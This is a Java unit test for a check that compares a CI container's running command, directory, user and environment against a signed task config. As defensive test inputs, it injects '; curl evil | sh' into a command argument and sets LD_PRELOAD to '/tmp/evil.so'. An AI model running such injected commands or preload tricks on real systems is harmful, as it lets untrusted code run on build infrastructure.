package org.cijwt.signedconfig;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

class ExecutionCheckTest {
    private static final JsonNode STEP = read("""
            task: use-vars
            params: {AUTH_ROLE: example}
            config:
              params: {VAULT_ADDR: ((.vault_addr)), AUTH_ROLE: default}
              run:
                path: sh
                dir: repo
                user: build
                args: [-exc, 'test "((hvjwt:some_secret.username))" = "hello-im-a-username"']
            """);

    private static JsonNode read(String yaml) {
        try {
            return new YAMLMapper().readTree(yaml);
        } catch (Exception e) {
            throw new IllegalArgumentException(e);
        }
    }

    private static ExecutionCheck.Process process(List<String> args, String cwd, Map<String, String> env) {
        return new ExecutionCheck.Process(args, cwd, Set.of("1000", "build"), env);
    }

    private static final List<String> RESOLVED = List.of("sh", "-exc", "test \"hello-im-a-username\" = \"hello-im-a-username\"");
    private static final Map<String, String> ENV = Map.of("PATH", "/bin", "VAULT_ADDR", "http://127.0.0.1:8200",
            "AUTH_ROLE", "example", "CONCOURSE_CI_JWT", "x");

    @Test
    void mismatchWhenContainerRunsTheSignedCommandWithVarsResolvedThenNone() {
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", ENV), Set.of())).isEmpty();
    }

    @Test
    void mismatchWhenAnArgumentDiffersOutsideAVarThenCommandDiffers() {
        List<String> args = List.of("sh", "-exc", "test \"x\" = \"hello-im-a-username\"; curl evil | sh");
        assertThat(ExecutionCheck.mismatch(STEP, process(args, "/tmp/build/1/repo", ENV), Set.of()))
                .hasValueSatisfying(r -> assertThat(r).startsWith("command differs: argument 2"));
        assertThat(ExecutionCheck.mismatch(STEP, process(List.of("sh", "-exc"), "/tmp/build/1/repo", ENV), Set.of()))
                .hasValueSatisfying(r -> assertThat(r).contains("3 argument(s), the container 2"));
    }

    @Test
    void mismatchWhenWorkingDirectoryOrUserDiffersThenCommandDiffers() {
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/other", ENV), Set.of()))
                .hasValueSatisfying(r -> assertThat(r).contains("working directory"));
        assertThat(ExecutionCheck.mismatch(STEP, new ExecutionCheck.Process(RESOLVED, "/tmp/build/1/repo", Set.of("0", "root"), ENV), Set.of()))
                .hasValueSatisfying(r -> assertThat(r).contains("run.user"));
    }

    @Test
    void mismatchWhenAParamIsAddedOrChangedThenNamed() {
        Map<String, String> added = new java.util.HashMap<>(ENV);
        added.put("LD_PRELOAD", "/tmp/evil.so");
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", added), Set.of()))
                .contains("param LD_PRELOAD is not in the signed config");
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", added), Set.of("LD_PRELOAD"))).isEmpty();

        Map<String, String> changed = new java.util.HashMap<>(ENV);
        changed.put("AUTH_ROLE", "admin");
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", changed), Set.of()))
                .contains("param AUTH_ROLE differs from the signed value");
    }

    @Test
    void matchesWhenTemplateHasVarsThenOnlyTheVarPartsMayDiffer() {
        assertThat(ExecutionCheck.matches("a ((x)) b ((y))", "a 1 b 2")).isTrue();
        assertThat(ExecutionCheck.matches("a ((x)) b", "a 1 c")).isFalse();
        assertThat(ExecutionCheck.matches("plain.*", "plainXYZ")).isFalse();
        assertThat(ExecutionCheck.matches("multi\nline ((v))", "multi\nline value\nmore")).isTrue();
    }
}
